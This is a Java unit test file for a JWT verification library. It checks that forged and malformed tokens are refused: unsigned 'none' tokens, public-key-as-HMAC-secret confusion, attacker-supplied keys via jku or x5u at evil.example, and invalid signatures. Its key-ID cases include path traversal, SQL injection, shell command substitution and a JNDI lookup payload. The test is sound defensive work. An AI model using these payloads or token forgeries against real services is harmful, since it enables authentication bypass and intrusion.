package io.bartizan.auth.token;

import static io.bartizan.auth.token.Judge.NOW;
import static io.bartizan.auth.token.TestIssuer.base64;
import static io.bartizan.auth.token.TestIssuer.jwk;
import static io.bartizan.auth.token.TestIssuer.pair;
import static io.bartizan.auth.token.TestIssuer.token;
import static io.bartizan.auth.token.TestIssuer.utf8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;

import io.bartizan.config.JwtAlgorithm;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.PublicKey;
import java.security.Signature;
import java.security.interfaces.ECPublicKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.EnumSet;
import java.util.List;
import java.util.stream.Stream;
import javax.crypto.spec.SecretKeySpec;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What is sent by those who have no token, or have another. */
class TokenAttacksTest {
  private static final String CLAIMS =
      "{\"iss\":\"https://id.example.com\",\"aud\":\"api\",\"sub\":\"alice\",\"exp\":1700000300}";

  private static final KeySet KEYS =
      TestIssuer.keys(
          jwk(pair("RSA").getPublic(), "\"kid\":\"rsa\""),
          jwk(pair("secp256r1").getPublic(), "\"kid\":\"ec\""),
          jwk(pair("Ed25519").getPublic(), "\"kid\":\"ed\""));

  private static final Judge JUDGE = Judge.of(KEYS);

  private static final KeyPair STRANGER = TestIssuer.newPair("RSA");

  /**
   * An attack.
   *
   * @param token a byte a character
   * @param answer null where it ends with the question for new keys
   */
  record Attack(String name, Judge judge, String token, @Nullable Fault answer) {
    @Override
    public String toString() {
      return name;
    }
  }

  private final List<Attack> attacks = new ArrayList<>();

  static Stream<Attack> isRefused() {
    TokenAttacksTest table = new TokenAttacksTest();
    table.algorithms();
    table.confusion();
    table.keysBroughtAlong();
    table.keyIds();
    table.ellipticSignatures();
    table.otherSignatures();
    table.forms();
    table.alphabets();
    table.headers();
    table.texts();
    table.claims();
    table.dates();
    table.withoutKeys();
    return table.attacks.stream();
  }

  @ParameterizedTest
  @MethodSource
  void isRefused(Attack attack) {
    Verification expected =
        attack.answer() == null
            ? new Verification.UnknownKey()
            : new Verification.Bad(attack.answer());
    assertEquals(
        expected, attack.judge().judge(attack.token().getBytes(StandardCharsets.ISO_8859_1)));
  }

  @Test
  void theTokenThatAllOfThemAreMadeOfIsGood() {
    assertInstanceOf(Verification.Good.class, JUDGE.judge(token(JwtAlgorithm.RS256, CLAIMS)));
    assertInstanceOf(Verification.Good.class, JUDGE.judge(token(JwtAlgorithm.ES256, CLAIMS)));
    assertInstanceOf(Verification.Good.class, JUDGE.judge(token(JwtAlgorithm.EDDSA, CLAIMS)));
  }

  private void add(String name, String token, Fault answer) {
    add(name, JUDGE, token, answer);
  }

  private void add(String name, Judge judge, String token, @Nullable Fault answer) {
    attacks.add(new Attack(name, judge, token, answer));
  }

  /** Signed with the issuer's own key, whatever the header says. */
  private void header(String name, String header, Fault answer) {
    add(name, token(JwtAlgorithm.RS256, header, CLAIMS), answer);
  }

  private void payload(String name, String payload, Fault answer) {
    add(name, token(JwtAlgorithm.RS256, payload), answer);
  }

  private void algorithms() {
    for (int i = 0; i < 16; i++) {
      StringBuilder none = new StringBuilder("none");
      for (int bit = 0; bit < 4; bit++) {
        if ((i & 1 << bit) != 0) {
          none.setCharAt(bit, Character.toUpperCase(none.charAt(bit)));
        }
      }
      String header = "{\"alg\":\"" + none + "\"}";
      add(
          "unsigned by algorithm " + none,
          base64(header) + "." + base64(CLAIMS) + ".",
          Fault.ALGORITHM);
      header("signed, and " + none + " by its header", header, Fault.ALGORITHM);
    }
    header("without an algorithm", "{}", Fault.MALFORMED);
    header("whose algorithm is null", "{\"alg\":null}", Fault.MALFORMED);
    header("whose algorithm is a number", "{\"alg\":256}", Fault.MALFORMED);
    header("whose algorithm is a list", "{\"alg\":[\"RS256\"]}", Fault.MALFORMED);
    header("whose algorithm is empty", "{\"alg\":\"\"}", Fault.ALGORITHM);
    header("whose algorithm is in lower case", "{\"alg\":\"rs256\"}", Fault.ALGORITHM);
    header("whose algorithm has a blank behind it", "{\"alg\":\"RS256 \"}", Fault.ALGORITHM);
    header("whose algorithm has a NUL behind it", "{\"alg\":\"RS256\\u0000\"}", Fault.ALGORITHM);
    header("whose algorithm is one of encryption", "{\"alg\":\"RSA-OAEP\"}", Fault.ALGORITHM);
    header("whose algorithm is the weakest there was", "{\"alg\":\"RS1\"}", Fault.ALGORITHM);
    add(
        "signed by an algorithm that is not among those allowed",
        JUDGE.by(JwtAlgorithm.ES256, JwtAlgorithm.PS256),
        token(JwtAlgorithm.RS256, CLAIMS),
        Fault.ALGORITHM);
  }

  /** Who takes a public key for a secret lets everybody sign. */
  private void confusion() {
    PublicKey rsa = pair("RSA").getPublic();
    byte[] der = rsa.getEncoded();
    String pem = TestIssuer.pem("PUBLIC KEY", der);
    List<byte[]> known =
        List.of(
            utf8(pem),
            utf8(pem.strip()),
            der,
            utf8(jwk(rsa)),
            utf8(jwk(rsa, "\"kid\":\"rsa\"")),
            TestIssuer.unsigned(((RSAPublicKey) rsa).getModulus(), 256),
            ((RSAPublicKey) rsa).getModulus().toByteArray());
    Judge both = JUDGE.by(JwtAlgorithm.RS256, JwtAlgorithm.HS256);
    for (int i = 0; i < known.size(); i++) {
      SecretKeySpec secret = new SecretKeySpec(known.get(i), "HMAC");
      String plain = token(JwtAlgorithm.HS256, secret, utf8("{\"alg\":\"HS256\"}"), utf8(CLAIMS));
      String named =
          token(
              JwtAlgorithm.HS256,
              secret,
              utf8("{\"alg\":\"HS256\",\"kid\":\"rsa\"}"),
              utf8(CLAIMS));
      add("signed with the public key as a secret, form " + i, plain, Fault.ALGORITHM);
      add("the same where secrets are allowed, form " + i, both, plain, Fault.UNKNOWN_KEY);
      add("the same, and names the key, form " + i, both, named, Fault.ALGORITHM);
    }
    Judge pemFile = both.with(pem(pem));
    add(
        "signed with the text of the PEM file as a secret",
        pemFile,
        token(
            JwtAlgorithm.HS256,
            new SecretKeySpec(utf8(pem), "HMAC"),
            utf8("{\"alg\":\"HS256\"}"),
            utf8(CLAIMS)),
        Fault.UNKNOWN_KEY);
    header(
        "RSA, and says that it is of the curve's key",
        "{\"alg\":\"RS256\",\"kid\":\"ec\"}",
        Fault.ALGORITHM);
    header("RSA, and says ECDSA", "{\"alg\":\"ES256\",\"kid\":\"ec\"}", Fault.SIGNATURE);
    header("PKCS#1, and says PSS", "{\"alg\":\"PS256\"}", Fault.SIGNATURE);
    header("SHA-256, and says SHA-512", "{\"alg\":\"RS512\"}", Fault.SIGNATURE);
    add(
        "a curve that is not the algorithm's",
        token(
            JwtAlgorithm.ES384,
            pair("secp256r1").getPrivate(),
            utf8("{\"alg\":\"ES384\",\"kid\":\"ec\"}"),
            utf8(CLAIMS)),
        Fault.ALGORITHM);
  }

  private static KeySet pem(String pem) {
    try {
      return KeySet.ofPem(utf8(pem), EnumSet.of(JwtAlgorithm.RS256, JwtAlgorithm.HS256));
    } catch (BadKeysException e) {
      throw new IllegalStateException(e);
    }
  }

  private void keysBroughtAlong() {
    String own = jwk(STRANGER.getPublic());
    for (String member :
        List.of(
            "\"jwk\":" + own,
            "\"jku\":\"https://evil.example/keys\"",
            "\"x5u\":\"https://evil.example/chain\"",
            "\"x5c\":[\"" + base64(STRANGER.getPublic().getEncoded()) + "\"]",
            "\"x5t\":\"AAAA\"")) {
      String name = member.substring(1, 4);
      add(
          "signed with a key that it brings along as " + name,
          stranger("{\"alg\":\"RS256\"," + member + "}"),
          Fault.SIGNATURE);
      add(
          "the same, and names the issuer's key, " + name,
          stranger("{\"alg\":\"RS256\",\"kid\":\"rsa\"," + member + "}"),
          Fault.SIGNATURE);
    }
    add("signed by somebody else", stranger("{\"alg\":\"RS256\"}"), Fault.SIGNATURE);
  }

  private static String stranger(String header) {
    return token(JwtAlgorithm.RS256, STRANGER.getPrivate(), utf8(header), utf8(CLAIMS));
  }

  private void keyIds() {
    for (String id :
        List.of(
            "",
            "../../../../../../dev/null",
            "file:///etc/passwd",
            "' UNION SELECT 'secret' --",
            "x; $(id) | `id`",
            "${jndi:ldap://evil.example/a}",
            "https://evil.example/key",
            "__proto__",
            "RSA",
            "rsa\\u0000",
            "rsa ",
            "*")) {
      String header = "{\"alg\":\"RS256\",\"kid\":\"" + id + "\"}";
      add("names a key that there is not: <" + id + ">", JUDGE, stranger(header), null);
      add(
          "the same by a secret that is empty: <" + id + ">",
          JUDGE.by(JwtAlgorithm.HS256),
          token(
              JwtAlgorithm.HS256,
              new SecretKeySpec(new byte[1], "HMAC"),
              utf8(header.replace("RS", "HS")),
              utf8(CLAIMS)),
          Fault.UNKNOWN_KEY);
    }
    header("whose kid is a number", "{\"alg\":\"RS256\",\"kid\":1}", Fault.MALFORMED);
    header("whose kid is null", "{\"alg\":\"RS256\",\"kid\":null}", Fault.MALFORMED);
    header("whose kid is an object", "{\"alg\":\"RS256\",\"kid\":{\"$ne\":1}}", Fault.MALFORMED);
    header(
        "whose kid is very long",
        "{\"alg\":\"RS256\",\"kid\":\"" + "a".repeat(513) + "\"}",
        Fault.MALFORMED);
  }

  private void ellipticSignatures() {
    String text = base64("{\"alg\":\"ES256\"}") + "." + base64(CLAIMS);
    BigInteger n = ((ECPublicKey) pair("secp256r1").getPublic()).getParams().getOrder();
    byte[] good =
        TestIssuer.signature(JwtAlgorithm.ES256, pair("secp256r1").getPrivate(), utf8(text));
    BigInteger r = new BigInteger(1, Arrays.copyOf(good, 32));
    BigInteger s = new BigInteger(1, Arrays.copyOfRange(good, 32, 64));
    BigInteger zero = BigInteger.ZERO;
    BigInteger most = BigInteger.ONE.shiftLeft(256).subtract(BigInteger.ONE);
    elliptic("r and s are zero", text, zero, zero);
    elliptic("r is zero", text, zero, s);
    elliptic("s is zero", text, r, zero);
    elliptic("r and s are the order", text, n, n);
    elliptic("r is the order", text, n, s);
    elliptic("s is the order", text, r, n);
    elliptic("s is one more than the order", text, r, n.add(BigInteger.ONE));
    elliptic("r and s are all ones", text, most, most);
    elliptic("r and s are one", text, BigInteger.ONE, BigInteger.ONE);
    elliptic("r and s are exchanged", text, s, r);
    for (int length : new int[] {1, 32, 63, 65, 96, 128}) {
      add(
          "ECDSA of " + length + " bytes",
          text + "." + base64(Arrays.copyOf(good, length)),
          Fault.SIGNATURE);
    }
    byte[] led = new byte[66];
    System.arraycopy(good, 0, led, 1, 32);
    System.arraycopy(good, 32, led, 34, 32);
    add("ECDSA with zeros before r and s", text + "." + base64(led), Fault.SIGNATURE);
    try {
      Signature der = Signature.getInstance("SHA256withECDSA");
      der.initSign(pair("secp256r1").getPrivate());
      der.update(utf8(text));
      add("ECDSA in ASN.1", text + "." + base64(der.sign()), Fault.SIGNATURE);
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private void elliptic(String name, String text, BigInteger r, BigInteger s) {
    byte[] signature = Arrays.copyOf(TestIssuer.unsigned(r, 32), 64);
    System.arraycopy(TestIssuer.unsigned(s, 32), 0, signature, 32, 32);
    add("ECDSA where " + name, text + "." + base64(signature), Fault.SIGNATURE);
  }

  private void otherSignatures() {
    String text = base64("{\"alg\":\"EdDSA\"}") + "." + base64(CLAIMS);
    byte[] good =
        TestIssuer.signature(JwtAlgorithm.EDDSA, pair("Ed25519").getPrivate(), utf8(text));
    // Of RFC 8032, section 5.1: added to S it gives the same point.
    BigInteger order =
        BigInteger.TWO.pow(252).add(new BigInteger("27742317777372353535851937790883648493"));
    byte[] s = new byte[32];
    for (int i = 0; i < 32; i++) {
      s[i] = good[63 - i];
    }
    byte[] more = TestIssuer.unsigned(new BigInteger(1, s).add(order), 32);
    byte[] same = good.clone();
    for (int i = 0; i < 32; i++) {
      same[63 - i] = more[i];
    }
    add("EdDSA whose S is out of range", text + "." + base64(same), Fault.SIGNATURE);
    add("EdDSA of zeros", text + "." + base64(new byte[64]), Fault.SIGNATURE);
    add("EdDSA of Ed448's length", text + "." + base64(new byte[114]), Fault.SIGNATURE);
    String rsa = token(JwtAlgorithm.RS256, CLAIMS);
    String signed = rsa.substring(0, rsa.lastIndexOf('.') + 1);
    byte[] signature = Base64.getUrlDecoder().decode(rsa.substring(signed.length()));
    byte[] led = new byte[257];
    System.arraycopy(signature, 0, led, 1, 256);
    add("RSA with a zero before it", signed + base64(led), Fault.SIGNATURE);
    add("RSA with a byte less", signed + base64(Arrays.copyOf(signature, 255)), Fault.SIGNATURE);
    add("RSA of zeros", signed + base64(new byte[256]), Fault.SIGNATURE);
    byte[] one = new byte[256];
    one[255] = 1;
    add("RSA that is one", signed + base64(one), Fault.SIGNATURE);
    byte[] modulus =
        TestIssuer.unsigned(((RSAPublicKey) pair("RSA").getPublic()).getModulus(), 256);
    add("RSA that is the modulus", signed + base64(modulus), Fault.SIGNATURE);
    add("without a signature", signed, Fault.SIGNATURE);
    String other = token(JwtAlgorithm.RS256, CLAIMS.replace("alice", "bob"));
    add(
        "with the signature of another token",
        signed + other.substring(other.lastIndexOf('.') + 1),
        Fault.SIGNATURE);
    String[] parts = rsa.split("\\.", -1);
    add(
        "with claims of its own",
        parts[0] + "." + base64(CLAIMS.replace("alice", "admin")) + "." + parts[2],
        Fault.SIGNATURE);
    add(
        "by a secret of another",
        JUDGE.by(JwtAlgorithm.HS256).with(secret()),
        token(
            JwtAlgorithm.HS256,
            new SecretKeySpec(new byte[64], "HMAC"),
            utf8("{\"alg\":\"HS256\"}"),
            utf8(CLAIMS)),
        Fault.SIGNATURE);
    String mac = token(JwtAlgorithm.HS256, CLAIMS);
    add(
        "by half a MAC",
        JUDGE.by(JwtAlgorithm.HS256).with(secret()),
        mac.substring(0, mac.lastIndexOf('.') + 1) + "AAAAAAAAAAAAAAAAAAAAAA",
        Fault.SIGNATURE);
  }

  private static KeySet secret() {
    return KeySet.ofSecret(TestIssuer.SECRET, EnumSet.of(JwtAlgorithm.HS256));
  }

  private void forms() {
    String good = token(JwtAlgorithm.RS256, CLAIMS);
    String[] parts = good.split("\\.", -1);
    for (String broken :
        List.of(
            "",
            ".",
            "..",
            "...",
            "....",
            "a",
            parts[0],
            parts[0] + "." + parts[1],
            "." + parts[1] + "." + parts[2],
            parts[1] + "." + parts[2],
            good + ".",
            "." + good,
            good + "." + parts[2],
            good + good,
            good + "," + good)) {
      add("broken in form: " + broken.replaceAll("[^.,]{9,}", "part"), broken, Fault.MALFORMED);
    }
    add("without a payload", parts[0] + ".." + parts[2], Fault.MALFORMED);
    add(
        "encrypted, in five parts",
        base64("{\"alg\":\"dir\",\"enc\":\"A128GCM\"}") + "..AAAAAAAAAAAAAAAA.AAAA.AAAA",
        Fault.MALFORMED);
    add(
        "in JSON, flattened",
        "{\"protected\":\"%s\",\"payload\":\"%s\",\"signature\":\"%s\"}"
            .formatted((Object[]) parts),
        Fault.MALFORMED);
    add(
        "in JSON, with several signatures",
        "{\"payload\":\"%s\",\"signatures\":[{\"protected\":\"%s\",\"signature\":\"%s\"}]}"
            .formatted(parts[1], parts[0], parts[2]),
        Fault.MALFORMED);
    add("of a megabyte", parts[0] + "." + "A".repeat(1 << 20) + "." + parts[2], Fault.TOO_LONG);
    add("of a megabyte of dots", ".".repeat(1 << 20), Fault.TOO_LONG);
    add("a byte too long", JUDGE.maxTokenSize(good.length() - 1), good, Fault.TOO_LONG);
    add("of nothing but dots", ".".repeat(8000), Fault.MALFORMED);
  }

  /** The same bytes must not be written in two ways. */
  private void alphabets() {
    String good = token(JwtAlgorithm.RS256, CLAIMS);
    String[] parts = good.split("\\.", -1);
    for (int part = 0; part < 3; part++) {
      String where = List.of("header", "payload", "signature").get(part);
      for (String bad :
          List.of("=", "==", " ", "\n", "\r\n", "\t", "\0", "+", "/", "?", "\u00e9")) {
        String[] changed = parts.clone();
        changed[part] = parts[part] + bad;
        String named = " <%s> %s its " + where;
        add(named.formatted(escaped(bad), "behind"), String.join(".", changed), Fault.MALFORMED);
        changed[part] = bad + parts[part];
        add(named.formatted(escaped(bad), "before"), String.join(".", changed), Fault.MALFORMED);
      }
    }
    add("six bits too many", parts[0] + "A." + parts[1] + "." + parts[2], Fault.MALFORMED);
    for (JwtAlgorithm algorithm :
        List.of(JwtAlgorithm.RS256, JwtAlgorithm.ES256, JwtAlgorithm.EDDSA)) {
      add(
          "bits that mean nothing, set in a signature by " + algorithm.text(),
          spoiled(token(algorithm, CLAIMS)),
          Fault.MALFORMED);
    }
    add(
        "bits that mean nothing, set in a header that is signed so",
        signed(spoiled(base64("{\"alg\":\"RS256\"}  ")) + "." + base64(CLAIMS)),
        Fault.MALFORMED);
    add(
        "bits that mean nothing, set in claims that are signed so",
        signed(base64("{\"alg\":\"RS256\"}") + "." + spoiled(base64(withBitsOver(CLAIMS)))),
        Fault.MALFORMED);
    add("bytes that are no ASCII", good.replace('.', '\u00ff'), Fault.MALFORMED);
  }

  private static String signed(String text) {
    return TestIssuer.signed(JwtAlgorithm.RS256, pair("RSA").getPrivate(), text);
  }

  private static String withBitsOver(String json) {
    return json.length() % 3 == 0 ? json + " " : json;
  }

  private static String spoiled(String base64) {
    int last = base64.length() - 1;
    return base64.substring(0, last) + (char) (base64.charAt(last) + 1);
  }

  private static String escaped(String text) {
    return "U+%04X".formatted((int) text.charAt(0)) + (text.length() > 1 ? " twice" : "");
  }

  private void headers() {
    header("critical: exp", "{\"alg\":\"RS256\",\"crit\":[\"exp\"],\"exp\":1}", Fault.CRITICAL);
    header("critical: nothing", "{\"alg\":\"RS256\",\"crit\":[]}", Fault.CRITICAL);
    header("critical: a text", "{\"alg\":\"RS256\",\"crit\":\"exp\"}", Fault.CRITICAL);
    header("critical: null", "{\"alg\":\"RS256\",\"crit\":null}", Fault.MALFORMED);
    header("b64", "{\"alg\":\"RS256\",\"crit\":[\"b64\"],\"b64\":false}", Fault.CRITICAL);
    header("b64 without crit", "{\"alg\":\"RS256\",\"b64\":false}", Fault.CRITICAL);
    header("b64 that is a text", "{\"alg\":\"RS256\",\"b64\":\"true\"}", Fault.CRITICAL);
    header("a token within a token", "{\"alg\":\"RS256\",\"cty\":\"JWT\"}", Fault.TYPE);
    header(
        "the same by a media type", "{\"alg\":\"RS256\",\"cty\":\"application/jwt\"}", Fault.TYPE);
    add(
        "a token within a token that does not say so",
        token(JwtAlgorithm.RS256, token(JwtAlgorithm.RS256, CLAIMS)),
        Fault.MALFORMED);
    Judge access = JUDGE.types("at+jwt");
    add("of no type", access, token(JwtAlgorithm.RS256, CLAIMS), Fault.TYPE);
    for (String type : List.of("JWT", "at", "at+jwt ", "dpop+jwt", "logout+jwt", "")) {
      add(
          "of type <" + type + ">",
          access,
          token(JwtAlgorithm.RS256, "{\"alg\":\"RS256\",\"typ\":\"" + type + "\"}", CLAIMS),
          Fault.TYPE);
    }
    header("whose type is a number", "{\"alg\":\"RS256\",\"typ\":1}", Fault.MALFORMED);
  }

  /** Two readers of the same text must not understand two things. */
  private void texts() {
    header("an algorithm twice", "{\"alg\":\"none\",\"alg\":\"RS256\"}", Fault.MALFORMED);
    header("the same, once escaped", "{\"alg\":\"RS256\",\"al\\u0067\":\"none\"}", Fault.MALFORMED);
    header("a member twice", "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"kid\":\"ec\"}", Fault.MALFORMED);
    payload("an expiry twice", CLAIMS.replace("}", ",\"exp\":9999999999}"), Fault.MALFORMED);
    payload("an audience twice", CLAIMS.replace("}", ",\"a\\u0075d\":\"x\"}"), Fault.MALFORMED);
    payload(
        "a member twice, once null", CLAIMS.replace("}", ",\"a\":null,\"a\":1}"), Fault.MALFORMED);
    payload(
        "a member twice, deep",
        CLAIMS.replace("}", ",\"a\":[{\"b\":1,\"b\":2}]}"),
        Fault.MALFORMED);
    bytes("a byte order mark", utf8("\ufeff{\"alg\":\"RS256\"}"), utf8(CLAIMS));
    bytes("a byte order mark in its claims", utf8("{\"alg\":\"RS256\"}"), utf8("\ufeff" + CLAIMS));
    bytes("UTF-16", "{\"alg\":\"RS256\"}".getBytes(StandardCharsets.UTF_16LE), utf8(CLAIMS));
    bytes(
        "UTF-16 in its claims",
        utf8("{\"alg\":\"RS256\"}"),
        CLAIMS.getBytes(StandardCharsets.UTF_16));
    bytes(
        "a byte of ISO 8859-1",
        utf8("{\"alg\":\"RS256\"}"),
        CLAIMS.replace("alice", "\u00e4lice").getBytes(StandardCharsets.ISO_8859_1));
    bytes(
        "a quote in two bytes",
        utf8("{\"alg\":\"RS256\"}"),
        CLAIMS.replace("alice", "\u00c0\u00a2").getBytes(StandardCharsets.ISO_8859_1));
    payload("half a character", CLAIMS.replace("alice", "\\ud800"), Fault.MALFORMED);
    payload("its other half", CLAIMS.replace("alice", "\\udc00x"), Fault.MALFORMED);
    payload("seventeen levels", CLAIMS.replace("}", ",\"a\":" + nested(16) + "}"), Fault.MALFORMED);
    payload(
        "two thousand levels",
        CLAIMS.replace("}", ",\"a\":" + nested(2000) + "}"),
        Fault.MALFORMED);
    payload(
        "levels that never end",
        CLAIMS.replace("}", ",\"a\":" + "[".repeat(4000)),
        Fault.MALFORMED);
    header("nested deep", "{\"alg\":\"RS256\",\"a\":" + nested(2000) + "}", Fault.MALFORMED);
    payload(
        "a number of a thousand digits",
        CLAIMS.replace("}", ",\"a\":" + "1".repeat(1000) + "}"),
        Fault.MALFORMED);
    payload("a number out of range", CLAIMS.replace("}", ",\"a\":1e400}"), Fault.MALFORMED);
    for (String broken :
        List.of(
            "",
            " ",
            "null",
            "[]",
            "\"a\"",
            "1",
            "{",
            "{}}",
            "{} {}",
            "{\"a\":1,}",
            "{a:1}",
            "{'a':1}",
            "{\"a\":01}",
            "{\"a\":NaN}",
            "{\"a\":+1}",
            "{\"a\":.5}",
            "{/**/}",
            "{\"a\":\"\n\"}",
            "{\"a\":\"\\x\"}",
            "{\"a\" 1}",
            "[{\"a\":1}]")) {
      payload("claims that are no JSON object: " + broken.strip(), broken, Fault.MALFORMED);
      header("a header that is no JSON object: " + broken.strip(), broken, Fault.MALFORMED);
    }
  }

  private static String nested(int levels) {
    return "[".repeat(levels) + "]".repeat(levels);
  }

  private void bytes(String name, byte[] header, byte[] payload) {
    add(
        name,
        token(JwtAlgorithm.RS256, pair("RSA").getPrivate(), header, payload),
        Fault.MALFORMED);
  }

  private void claims() {
    for (String audience :
        List.of("\"other\"", "\"API\"", "\"api \"", "\"\"", "[]", "[\"other\"]", "[[]]", "null")) {
      Fault fault = audience.equals("[[]]") ? Fault.CLAIMS : Fault.AUDIENCE;
      payload("for audience " + audience, CLAIMS.replace("\"api\"", audience), fault);
    }
    for (String audience :
        List.of("1", "true", "{\"api\":1}", "[\"api\",1]", "[1,\"api\"]", "[\"api\",[\"api\"]]")) {
      payload("for no audience: " + audience, CLAIMS.replace("\"api\"", audience), Fault.CLAIMS);
    }
    payload("for nobody", CLAIMS.replace("\"aud\":\"api\",", ""), Fault.AUDIENCE);
    for (String issuer :
        List.of(
            "\"https://id.example.com/\"",
            "\"https://id.example.com.evil.example\"",
            "\"HTTPS://id.example.com\"",
            "\"\"",
            "null")) {
      payload(
          "of issuer " + issuer,
          CLAIMS.replace("\"https://id.example.com\"", issuer),
          Fault.ISSUER);
    }
    payload("of nobody", CLAIMS.replaceFirst("\"iss\":[^,]*,", ""), Fault.ISSUER);
    payload(
        "of issuers",
        CLAIMS.replace("\"https://id.example.com\"", "[\"https://id.example.com\"]"),
        Fault.CLAIMS);
    add(
        "whose audience is a number, where nobody asks for it",
        JUDGE.ofAnybodyForAnybody(),
        token(JwtAlgorithm.RS256, "{\"aud\":1,\"exp\":1700000300}"),
        Fault.CLAIMS);
  }

  private void dates() {
    payload("that never expires", CLAIMS.replace(",\"exp\":1700000300", ""), Fault.NO_EXPIRY);
    for (String date :
        List.of(
            "\"1700000300\"",
            "true",
            "[1700000300]",
            "{}",
            "1e300",
            "1".repeat(30),
            "9007199254740994")) {
      payload("that expires at " + date, expires(date), Fault.CLAIMS);
      payload("that is not good before " + date, with("nbf", date), Fault.CLAIMS);
      payload("that was issued at " + date, with("iat", date), Fault.CLAIMS);
    }
    payload("that expires at null", expires("null"), Fault.NO_EXPIRY);
    for (String date :
        List.of("0", "-1", "-1e15", "-0", "1e-300", "" + (NOW - 60), NOW - 61 + ".5")) {
      payload("that expired at " + date, expires(date), Fault.EXPIRED);
    }
    payload("of the future", with("nbf", "" + (NOW + 61)), Fault.NOT_YET);
    payload("of the near future", with("nbf", NOW + 60 + ".5"), Fault.NOT_YET);
    payload("of the far future", with("nbf", "9e15"), Fault.NOT_YET);
    payload("issued in the future", with("iat", "" + (NOW + 61)), Fault.NOT_YET);
    Judge day = JUDGE.maxLifetime(Duration.ofDays(1));
    for (String date : List.of("" + (NOW + 86461), "9007199254740992", "9e15")) {
      add(
          "that expires far away at " + date,
          day,
          token(JwtAlgorithm.RS256, expires(date)),
          Fault.LIFETIME);
    }
  }

  private static String expires(String date) {
    return CLAIMS.replace("1700000300", date);
  }

  private static String with(String claim, String value) {
    return CLAIMS.replace("}", ",\"" + claim + "\":" + value + "}");
  }

  private void withoutKeys() {
    Judge none = JUDGE.with(KeySet.EMPTY);
    add(
        "unsigned, where there are no keys",
        none,
        base64("{\"alg\":\"none\"}") + "." + base64(CLAIMS) + ".",
        Fault.ALGORITHM);
    add(
        "unsigned and without an end, where there are no keys",
        none,
        base64("{\"alg\":\"none\"}") + "." + base64(CLAIMS),
        Fault.MALFORMED);
    add(
        "without a signature, where there are no keys",
        none,
        base64("{\"alg\":\"RS256\"}") + "." + base64(CLAIMS) + ".",
        null);
    add("good, where there are no keys", none, token(JwtAlgorithm.RS256, CLAIMS), null);
    add(
        "good by a secret, where there are no keys",
        none.by(JwtAlgorithm.HS256),
        token(JwtAlgorithm.HS256, CLAIMS),
        Fault.UNKNOWN_KEY);
    String unnamed = token(JwtAlgorithm.ES384, CLAIMS);
    add("by an algorithm that no key is for", JUDGE, unnamed, null);
  }
}
